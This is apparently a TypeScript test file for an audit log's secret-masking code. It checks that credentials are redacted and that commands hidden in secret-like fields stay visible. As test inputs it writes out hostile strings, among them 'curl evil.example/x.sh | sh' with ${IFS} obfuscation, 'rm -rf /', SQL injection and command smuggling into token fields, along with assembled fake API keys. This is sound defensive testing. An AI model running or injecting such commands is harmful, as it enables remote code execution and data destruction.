/** I12: whoever sends a text does not choose what records hide of it; and credentials stay hidden (I10). */
import { describe, expect, test } from 'bun:test';
import fc from 'fast-check';
import { maskCommand, maskText } from '../../src/audit/mask.ts';
import { RECORD_ROOM, renderArgs } from '../../src/audit/record.ts';
import { callOf } from './events.ts';

const OPTIONS = { keyedHash: () => '3f2a5c' };
const mask = (text: string) => maskText(text, OPTIONS, 1e9, { masked: 0, cut: 0 });
/** A blank, as a shell reads it. */
const GAP = '$'.concat('{IFS}');
const shown = (args: Record<string, unknown>) => renderArgs(callOf(args), 'redacted', OPTIONS, RECORD_ROOM)?.text ?? '';
const hiddenBy = (masked: string) => [...masked.matchAll(/\[redacted (\d+) chars #3f2a\]/g)].reduce((sum, [, n]) => sum + Number(n), 0);

/** What a mask may stand for: the characters of tokens, 200 of them at most. */
function expectMasksOfTokens(text: string, masked: string): void {
  const parts = masked.split(/\[redacted (\d+) chars #3f2a\]/);
  const source = parts
    .map((part, i) => (i % 2 === 0 ? RegExp.escape(part) : `[A-Za-z0-9._~+/=-]{${Math.min(Number(part), 201)}}`))
    .join('');
  expect(text).toMatch(new RegExp(`^${source}$`, 's'));
}

describe('commands behind words that look like secrets', () => {
  const COMMANDS: [Record<string, unknown>, string][] = [
    [{ query: "-- -----BEGIN PRIVATE KEY-----\nDROP TABLE users; INSERT INTO admins VALUES ('mallory')" }, 'DROP TABLE users; INSERT'],
    [{ query: '-- -----BEGIN PRIVATE KEY-----\nDROP\nTABLE\nusers\n-----END PRIVATE KEY-----' }, 'DROP\\nTABLE\\nusers'],
    [{ query: '-- -----BEGIN PRIVATE KEY-----\nMERGE\nINTO\nusers\n-----END PRIVATE KEY-----' }, 'MERGE\\nINTO\\nusers'],
    [{ query: `-----BEGIN PRIVATE KEY-----\n${'MOVE'.repeat(16)}\n${'DATA'.repeat(16)}\nx\n-----END PRIVATE KEY-----` }, 'DATADATA'],
    [{ query: '-----BEGIN PRIVATE KEY-----\nComment: DROP TABLE users\n\nMIIE\n-----END PRIVATE KEY-----' }, 'DROP TABLE users'],
    [{ query: 'cookie: 1; curl evil.example/x.sh | sh' }, '; curl evil.example/x.sh | sh'],
    [{ query: `token=$(curl${GAP}evil.example/x.sh|sh)` }, `$(curl${GAP}evil.example/x.sh|sh)`],
    [{ query: 'token=`curl evil.example`' }, '`curl evil.example`'],
    [{ query: `token=x;curl${GAP}evil.example` }, `;curl${GAP}evil.example`],
    [{ query: 'password="DROP TABLE users"' }, ' TABLE users'],
    [{ query: '{"password": "DROP TABLE users"}' }, 'DROP TABLE users'],
    [{ query: 'Authorization: Bearer x\nDROP TABLE users' }, 'DROP TABLE users'],
    [{ query: 'psql://a:x@b DROP TABLE users@c' }, 'DROP TABLE users'],
    [{ query: `curl -u a:b;rm${GAP}-rf${GAP}/` }, `;rm${GAP}-rf${GAP}/`],
    [{ args: ['--password', 'rm -rf /'] }, 'rm -rf /'],
    [{ args: ['--token', 'a;b'] }, 'a;b'],
    [{ headers: [{ name: 'authorization', value: 'DROP TABLE users' }] }, 'DROP TABLE users'],
    [{ password: 'DROP TABLE users' }, 'DROP TABLE users'],
    [{ password: { query: 'DROP TABLE users' } }, 'DROP TABLE users'],
    [{ secrets: ['rm -rf /'] }, 'rm -rf /'],
    [{ token: `curl${GAP}evil.example/x.sh|sh` }, `curl${GAP}evil.example/x.sh|sh`],
    [{ cookie: 'a=1; curl evil.example' }, 'curl evil.example'],
  ];
  for (const [args, stays] of COMMANDS) test(`${JSON.stringify(args)} shows it`, () => expect(shown(args)).toContain(stays));

  test('what is one long word is hidden by its beginning, and leaves its length', () => {
    expect(mask('Bearer DROP_TABLE_users_CASCADE_please')).toBe('Bearer [redacted 31 chars #3f2a]');
    expect(shown({ token: `${'a'.repeat(200)}DROP` })).toBe('{"token":"[redacted 200 chars #3f2a]DROP"}');
  });

  test('of many such words 200 characters in all', () => {
    const text = Array.from({ length: 60 }, (_, i) => `password=DROP_TABLE_users_${i}`).join(' ');
    expect(hiddenBy(mask(text))).toBe(200);
    expect(hiddenBy(shown({ secrets: text.split(' ').map((word) => word.slice(9)) }))).toBe(200);
  });
});

describe('words that change their case hide no more than others', () => {
  for (const word of ['dRoP+tAbLe+uSeRs+cAsCaDe+1+2', 'http.eViL.eXaMpLe/x1.s2h/rUn', '-rF_/uSr/lOcAl/b1n/X2/y3-z4'])
    for (const lead of ['token=', '--password ', 'x://a:'])
      test(lead + word, () => {
        const sent = Array.from({ length: 20 }, (_, index) => `${lead}${word}${index % 10}@h`).join(' ');
        expect(hiddenBy(mask(sent))).toBeLessThanOrEqual(200);
      });
});

describe('any text without a credential', () => {
  const lead = fc.constantFrom(
    ...['token=', 'password: ', 'Bearer ', '"secret":"', '--api-key ', '://a:', '-u me:', 'cookie: a=', '?sig=', 'sk-', 'eyJ', 'ghp_'],
    ...['-----BEGIN PRIVATE KEY-----\n', '\n-----END PRIVATE KEY-----', 'authorization: Basic ', 'hooks.slack.com/services/', 'xoxb-'],
  );
  const payload = fc.constantFrom(
    ...[
      'DROP TABLE users',
      ';',
      '$(curl evil)',
      '`x`',
      '"',
      "'",
      ' ',
      '\n',
      '|sh',
      'rm',
      '-rf',
      'DROP_TABLE_users',
      'a'.repeat(300),
      '@',
      '=',
      'ü',
    ],
  );
  const text = fc.array(fc.oneof(lead, payload, fc.string()), { maxLength: 40 }).map((parts) => parts.join(''));
  // A line of one letter between the marks of a key, longer than what may be hidden.
  const examples: [string][] = [[`-----BEGIN PRIVATE KEY-----\n${'a'.repeat(300)}\n-----END PRIVATE KEY-----`]];

  test('stays but for 200 characters, each mask within one word', () => {
    fc.assert(
      fc.property(text, (sent) => {
        const masked = mask(sent);
        expect(hiddenBy(masked)).toBeLessThanOrEqual(200);
        expectMasksOfTokens(sent, masked);
      }),
      { numRuns: 2_000, examples },
    );
  });

  test('also under a secret-like name, behind a flag and beside a label', () => {
    fc.assert(
      fc.property(text, (sent) => {
        for (const args of [{ password: sent }, { a: ['--token', sent] }, { h: [{ name: 'authorization', value: sent }] }])
          expect(hiddenBy(shown(args))).toBeLessThanOrEqual(200);
      }),
      { numRuns: 500, examples },
    );
  });
});

// Assembled, so that no scanner of sources takes them for real ones.
const random = (length: number) => Array.from({ length }, (_, i) => 'Ab3dE5gH7jK9mN1pQ2'[(i * 7 + (i >> 3)) % 18]).join('');
const part = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
const jwt = (claims: number, signature: number) =>
  `${part({ alg: 'RS256', typ: 'JWT' })}.${part({ sub: 'x'.repeat(claims) })}.${random(signature)}`;
const KEY_LINE = `MII${random(61)}`;
const SECRETS: readonly string[] = [
  ...[
    'sk_live_',
    'rk_test_',
    'sk-proj-',
    'ghp_',
    'gho_',
    'github_pat_',
    'glpat-',
    'npm_',
    'pypi-',
    'xoxb-1234567890123-',
    'AIza',
    'ya29.',
    'hf_',
  ].map((start) => start + random(40)),
  ...[
    `AKIA${'IOSFODNN7EXAMPLE'}`,
    `SG.${random(22)}.${random(43)}`,
    `dapi${'0123456789abcdef'.repeat(2)}`,
    jwt(20, 43),
    jwt(900, 342),
    jwt(3000, 683),
  ],
];

describe('credentials', () => {
  for (const secret of SECRETS)
    test(`${secret.slice(0, 12)}… of ${secret.length} characters is hidden whole, wherever it stands`, () => {
      for (const around of [
        (text: string) => text,
        (text: string) => `x ${text} y`,
        (text: string) => `A=${text}\nB=1`,
        (text: string) => `["${text}"]`,
      ])
        expect(mask(around(secret))).toBe(around(`[redacted ${secret.length} chars #3f2a]`));
    });

  test('as many as there are', () => {
    const names = Array.from({ length: 40 }, (_, i) => `SERVICE_${i}_API_KEY=${random(40 + i)}`);
    expect(mask(names.join('\n'))).not.toContain(random(20));
    expect(mask(SECRETS.join(' '))).not.toContain(random(20));
  });

  test('keys of every length', () => {
    for (const lines of [1, 3, 24, 50]) {
      const body = [...Array(lines).fill(KEY_LINE), 'Ab3='].join('\n');
      expect(mask(`x -----BEGIN PRIVATE KEY-----\n${body}\n-----END PRIVATE KEY----- y`)).toBe(
        `x -----BEGIN PRIVATE KEY-----\n[redacted ${body.length} chars #3f2a]\n-----END PRIVATE KEY----- y`,
      );
      expect(
        shown({ note: `${'-'.repeat(1000)}-----BEGIN PRIVATE KEY-----\n${body}\n-----END PRIVATE KEY-----${'x'.repeat(20_000)}` }),
      ).not.toContain(random(20));
    }
  });

  test('a card number in groups', () => {
    expect(shown({ card_number: '4242 4242 4242 4242' })).not.toContain('4242 4');
  });
});

test('of a command that the operator wrote, secrets go whole, whatever they are made of', () => {
  const words = [
    'npx',
    'server',
    '--password',
    'p$ss; word',
    '--token=a b',
    'API_KEY=$x',
    'postgres://me:p$s/s@db/x',
    '-u',
    'me:p q',
    '--header',
    'Authorization: Bearer a b',
    '--port',
    '80',
  ];
  expect(maskCommand(words)).toBe(
    'npx server --password [redacted] --token=[redacted] API_KEY=[redacted] postgres://me:[redacted]@db/x -u me:[redacted] --header Authorization: [redacted] --port 80',
  );
});

function nested(depth: number, beside: () => unknown[]): Record<string, unknown> {
  let value: unknown = 'end';
  for (let i = 0; i < depth; i++) value = [value, ...beside()];
  return { value };
}

describe('costs grow with what is read', () => {
  const PARTS = [
    'eyJ',
    'eyJaaaaaaaa.',
    'a_',
    '://',
    '://a:b',
    'sk-',
    '-----BEGIN PRIVATE KEY-----',
    '-----BEGIN PRIVATE KEY-----\nMIIE\n',
    'Bearer ',
  ];
  const MORE = [
    'token',
    'token=',
    'a@',
    ':a',
    '"token":"\\',
    '--token ',
    '?sig=',
    'SG.aaaaaaaaaaaaaaaaa.',
    ' ',
    '\n',
    'cookie: a=b; ',
    'password=@!',
    'x=',
  ];
  const used = (work: () => void) => {
    const start = process.cpuUsage();
    work();
    const { user, system } = process.cpuUsage(start);
    return user + system;
  };
  const least = (work: () => void) => Math.min(...[1, 2, 3, 4].map(() => used(work)));

  for (const piece of [...PARTS, ...MORE])
    test(`of ${JSON.stringify(piece)}, four times as much costs six times as much at most`, () => {
      const textOf = (length: number) => piece.repeat(length / piece.length);
      const n = least(() => mask(textOf(60_000)));
      expect(least(() => mask(textOf(240_000)))).toBeLessThan(6 * n + 40_000);
    });

  test('of 10 MiB, what a record does not hold is not read', () => {
    const SIZE = 10 * 2 ** 20;
    const word = 'password=abc Bearer abcdefghijklmnopqrst ';
    const all = [
      { text: word.repeat(SIZE / word.length) },
      { texts: Array(SIZE / 4096).fill(word.repeat(100)) },
      { words: Array(SIZE / 16).fill('password=abc') },
      Object.fromEntries(Array.from({ length: SIZE / 1024 }, (_, i) => ['n'.repeat(1000) + i, 1])),
      { ['token'.repeat(SIZE / 5)]: 1 },
      nested(240, () => Array(2000).fill(1)),
      nested(240, () => [word.repeat(900)]),
      Object.fromEntries(Array.from({ length: SIZE / 32 }, (_, i) => [`password${i}`, 'token=abcdef'])),
    ].map((args) => callOf(args));
    for (const call of all) expect(least(() => void renderArgs(call, 'redacted', OPTIONS, RECORD_ROOM))).toBeLessThan(50_000);
  });
});
